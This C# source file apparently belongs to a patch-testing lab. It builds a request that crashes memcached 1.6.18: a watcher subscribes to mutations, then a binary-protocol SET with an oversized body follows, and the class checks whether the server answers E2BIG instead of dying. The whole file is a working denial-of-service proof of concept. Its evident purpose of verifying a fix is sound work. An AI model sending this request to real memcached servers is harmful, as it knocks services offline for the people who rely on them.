// SPDX-License-Identifier: Apache-2.0
using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;
using Wfpatch.Lab.Loads;

namespace Wfpatch.Lab.Servers;

/// <summary>
/// The request that kills memcached 1.6.18: while a client watches mutations, a binary-protocol SET whose body is larger than
/// an item may be; the log entry reads the slab class of an item that was never made (process_bin_update).
/// </summary>
public sealed class MemcachedCrash : IDisposable
{
    private const int BodyLength = 2 * 1024 * 1024;
    private const int HeaderLength = 24;
    private readonly LineConnection _watcher;
    private readonly int _port;

    /// <summary>Connects the watcher, which stays until this is disposed.</summary>
    public MemcachedCrash(int port)
    {
        _port = port;
        _watcher = new(port);
        _watcher.Send("watch mutations\r\n"u8);
        string answer = Encoding.ASCII.GetString(_watcher.ReadLine());
        if (answer != "OK")
        {
            throw new InvalidDataException($"memcached answered '{answer}' to 'watch mutations'.");
        }
    }

    /// <summary>Sends the request. True: the server answered, with the error that it must give (too large).</summary>
    public bool SendDeadlySet()
    {
        try
        {
            using LineConnection connection = new(_port);
            connection.Send(Header());
            connection.Send(new byte[BodyLength]); // the server swallows it before it answers
            ReadOnlySpan<byte> answer = connection.ReadBytes(HeaderLength);
            return answer[0] == 0x81 && BinaryPrimitives.ReadUInt16BigEndian(answer[6..]) == 3; // response magic; E2BIG
        }
        catch (SocketException)
        {
            return false;
        }
    }

    public void Dispose() => _watcher.Dispose();

    /// <summary>Request header, extras (flags, expiry) and key of the SET; at them already the unpatched server dies.</summary>
    private static byte[] Header()
    {
        ReadOnlySpan<byte> key = "deadly"u8;
        byte[] request = new byte[HeaderLength + 8 + key.Length];
        request[0] = 0x80; // request magic
        request[1] = 0x01; // SET
        BinaryPrimitives.WriteUInt16BigEndian(request.AsSpan(2), (ushort)key.Length);
        request[4] = 8; // extras length
        BinaryPrimitives.WriteInt32BigEndian(request.AsSpan(8), 8 + key.Length + BodyLength);
        key.CopyTo(request.AsSpan(HeaderLength + 8));
        return request;
    }
}
